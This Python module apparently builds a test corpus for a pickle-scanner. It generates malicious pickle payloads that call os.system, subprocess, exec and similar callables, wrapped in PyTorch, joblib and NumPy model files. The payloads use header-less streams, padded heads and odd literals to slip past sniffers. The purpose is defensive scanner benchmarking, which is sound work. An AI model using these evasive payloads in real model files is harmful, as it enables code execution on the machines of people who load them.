"""Generated pickles that the C unpickler accepts but a header/prefix-based sniffer or a strict literal parser
misses: header-less streams (protocol 0/1, or starting straight with a newer opcode), padded heads that
import nothing in their first KiBs, odd-but-valid INT/LONG/FLOAT/GET/PUT literals, in every container.

Each payload is written as raw opcodes naming the callable; nothing here imports or calls it, and nothing
is ever unpickled.
"""

from __future__ import annotations

import gzip
import pickle
from collections.abc import Callable, Iterator
from dataclasses import dataclass

from . import formats as F
from .pickles import CMD, MEMOIZE, NEWTRUE, POP, REDUCE, STACK_GLOBAL, STOP, TUPLE1, frame, glob, s0, u

TORCH_MAGIC = 0x1950A86A20F9469CFC6C
TORCH_PROTOCOL = 1001


@dataclass(frozen=True)
class Variant:
    name: str
    filename: str
    data: bytes
    technique: str
    note: str


# --- payload bodies (no PROTO, no STOP): each leaves the result of one dangerous call on the stack --------
def _p0_global(module: str, name: str) -> bytes:
    return glob(module, name) + b"(" + s0(CMD) + b"tR"


def _p0_inst(module: str, name: str) -> bytes:
    return b"(" + s0(CMD) + b"i" + module.encode() + b"\n" + name.encode() + b"\n"


def _p1_global(module: str, name: str) -> bytes:
    return glob(module, name) + b"q\x00(" + u(CMD) + b"tR"


def _p4_stack_global(module: str, name: str) -> bytes:
    return u(module) + MEMOIZE + u(name) + MEMOIZE + STACK_GLOBAL + MEMOIZE + u(CMD) + TUPLE1 + REDUCE


def _p4_memo(module: str, name: str) -> bytes:
    """Module and name stored in the memo first, fetched back for STACK_GLOBAL."""
    return (
        u(name)
        + b"q\x07"
        + POP
        + u(module)
        + b"q\x08"
        + POP
        + b"h\x08h\x07"
        + STACK_GLOBAL
        + u(CMD)
        + TUPLE1
        + REDUCE
    )


def _p0_text_memo(module: str, name: str) -> bytes:
    """Protocol-0 PUT/GET with odd-but-valid decimal indexes (whitespace, underscores)."""
    return glob(module, name) + b"p 1_0\n" + POP + b"g10 \n(" + s0(CMD) + b"tR"


BODIES: dict[str, Callable[[str, str], bytes]] = {
    "p0global": _p0_global,
    "p0inst": _p0_inst,
    "p1global": _p1_global,
    "p4stackglobal": _p4_stack_global,
    "p4memo": _p4_memo,
    "p0memo": _p0_text_memo,
}

# Dangerous callables of different families (module, name).
TARGETS = [
    ("os", "system"),
    ("subprocess", "check_output"),
    ("builtins", "exec"),
    ("posix", "system"),
    ("_posixsubprocess", "fork_exec"),
    ("uuid", "_popen"),
    ("_pyio", "open"),
]

# --- heads that import nothing for KiBs (each leaves the stack as it found it) ------------------------------
PADS: dict[str, bytes] = {
    "none": b"",
    "longstring": b"S'" + b"A" * 6000 + b"'\n" + POP,
    "longunicode": b"V" + b"B" * 6000 + b"\n" + POP,
    "ints": b"I1\n0" * 1500,
    "shortbinunicode": (u("x" * 200) + POP) * 30,
    "newtrue": (NEWTRUE + POP) * 3000,
    "frame": b"",  # handled in _wrap: a FRAME opcode first, no PROTO
    "hugeline": b"S'" + b"C" * (1024 * 1024 + 10) + b"'\n" + POP,
}

# Literals the C unpickler accepts (pushed then popped before the payload).
ODD_LITERALS = [
    b"I0b1\n",
    b"L0o7L\n",
    b"I1_000\n",
    b"I 5\n",
    b"I010\n",
    b"I0x1f\n",
    b"I+1\n",
    b"I\t7\n",
    b"I5\x00junk\n",
    b"L-0x_1L\n",
    b"L 12 \n",
    b"F1e5\n",
    b"Finf\n",
    b"F-NaN\n",
    b"F.5\n",
    b"I99999999999999999999999\n",
    b"I0_0\n",
    b"L0b1_0L\n",
]


def _wrap(pad: str, body: bytes) -> bytes:
    if pad == "frame":
        inner = body + STOP
        return frame(len(inner)) + inner
    return PADS[pad] + body + STOP


def headerless(module: str, name: str, body: str = "p4stackglobal", pad: str = "none") -> bytes:
    return _wrap(pad, BODIES[body](module, name))


def odd_literal(literal: bytes, module: str = "os", name: str = "system") -> bytes:
    return literal + POP + _p4_stack_global(module, name) + STOP


# --- containers -------------------------------------------------------------------------------------------
def _legacy_torch_second(evil: bytes) -> bytes:
    """A legacy torch.save file whose second pickle (the protocol number) is the header-less payload."""
    sys_info = pickle.dumps(
        {
            "protocol_version": TORCH_PROTOCOL,
            "little_endian": True,
            "type_sizes": {"short": 2, "int": 4, "long": 4},
        },
        protocol=2,
    )
    return (
        pickle.dumps(TORCH_MAGIC, protocol=2)
        + evil
        + sys_info
        + pickle.dumps({}, protocol=2)
        + pickle.dumps([], protocol=2)
    )


CONTAINERS: dict[str, tuple[str, Callable[[bytes], bytes]]] = {
    "pkl": ("model.pkl", lambda b: b),
    "pt": ("model.pt", lambda b: b),
    "bin": ("pytorch_model.bin", lambda b: b),
    "torchzip": ("pytorch_model.bin", F.torch_zip_with_pickle),
    "legacy2": ("model.pt", _legacy_torch_second),
    "joblib": ("model.joblib", lambda b: b),
    "joblibgz": ("model.joblib", lambda b: gzip.compress(b, mtime=0)),
    "npyobject": ("weights.npy", lambda b: F.npy_header("|O", (1,)) + b),
}


def variants(*, full: bool = False) -> Iterator[Variant]:
    """The gate corpus. ``full`` crosses every body, target, pad and container (about 2,700 samples); the
    default keeps every pad, body, target, literal and container but not every combination."""
    for ci, (cname, (filename, wrap)) in enumerate(CONTAINERS.items()):
        for pi, pad in enumerate(PADS):
            for bi, body in enumerate(BODIES):
                for ti, (module, name) in enumerate(TARGETS):
                    if not full and (pi + bi + ti + ci) % 7:
                        continue
                    if pad == "hugeline" and (cname not in ("pkl", "torchzip") or ti > 1):
                        continue  # 1 MiB each: enough to show the line-length gap is closed
                    data = wrap(headerless(module, name, body, pad))
                    yield Variant(
                        f"gate_{cname}_{pad}_{body}_{module}_{name}",
                        filename,
                        data,
                        "G1",
                        f"header-less {body} pickle calling {module}.{name}, head '{pad}', in {cname}",
                    )
        for li, literal in enumerate(ODD_LITERALS):
            if not full and (li + ci) % 3:
                continue
            yield Variant(
                f"gate_{cname}_literal{li}",
                filename,
                wrap(odd_literal(literal)),
                "G2",
                f"odd literal {literal!r} accepted by CPython, then os.system, in {cname}",
            )


def corpus_subset() -> Iterator[Variant]:
    """A few variants per container for the labelled corpus (the benchmark against other scanners): every
    pad, body and target appears at least once, plus one odd literal per container."""
    pads = [p for p in PADS if p != "hugeline"]
    bodies = list(BODIES)
    for ci, (cname, (filename, wrap)) in enumerate(CONTAINERS.items()):
        for k in range(2):
            pad = pads[(2 * ci + k) % len(pads)]
            body = bodies[(2 * ci + k) % len(bodies)]
            module, name = TARGETS[(2 * ci + k) % len(TARGETS)]
            yield Variant(
                f"g1_{cname}_{pad}_{body}",
                filename,
                wrap(headerless(module, name, body, pad)),
                "G1",
                f"header-less {body} pickle calling {module}.{name}, head '{pad}', in {cname}",
            )
        literal = ODD_LITERALS[(3 * ci) % len(ODD_LITERALS)]
        yield Variant(
            f"g2_{cname}_literal",
            filename,
            wrap(odd_literal(literal)),
            "G2",
            f"odd literal {literal!r} accepted by CPython, then os.system, in {cname}",
        )
